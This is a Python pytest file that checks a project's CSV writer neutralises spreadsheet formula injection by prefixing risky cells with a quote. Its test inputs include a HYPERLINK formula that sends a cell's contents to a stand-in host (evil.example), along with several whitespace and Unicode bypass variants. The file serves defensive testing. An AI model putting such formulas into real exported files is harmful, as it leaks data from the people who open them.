"""SEC-CSV-1: the one CSV writer never writes a live spreadsheet formula."""

import csv
import io

import pytest

from quietshelf.core.csvfile import csv_text, is_formula_like, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&B2,"x")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",
        "  =1+1",
        "\u00a0@cmd",
    ],
)
def test_formula_cells_are_neutralised_sec_csv_1(text):
    assert is_formula_like(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Tintin", "1999", "a=b", "", "Ærlig talt"])
def test_plain_cells_are_written_as_they_are_sec_csv_1(text):
    assert safe_cell(text) == text


def test_numbers_stay_numbers_sec_csv_1():
    assert safe_cell(-70) == "-70"
    assert safe_cell(None) == ""


def test_csv_text_round_trips_and_holds_no_live_formula_sec_csv_1():
    body = csv_text(["title", "n"], [["=1+1", 3], ["ok", -1]])
    rows = list(csv.reader(io.StringIO(body)))
    assert rows == [["title", "n"], ["'=1+1", "3"], ["ok", "-1"]]
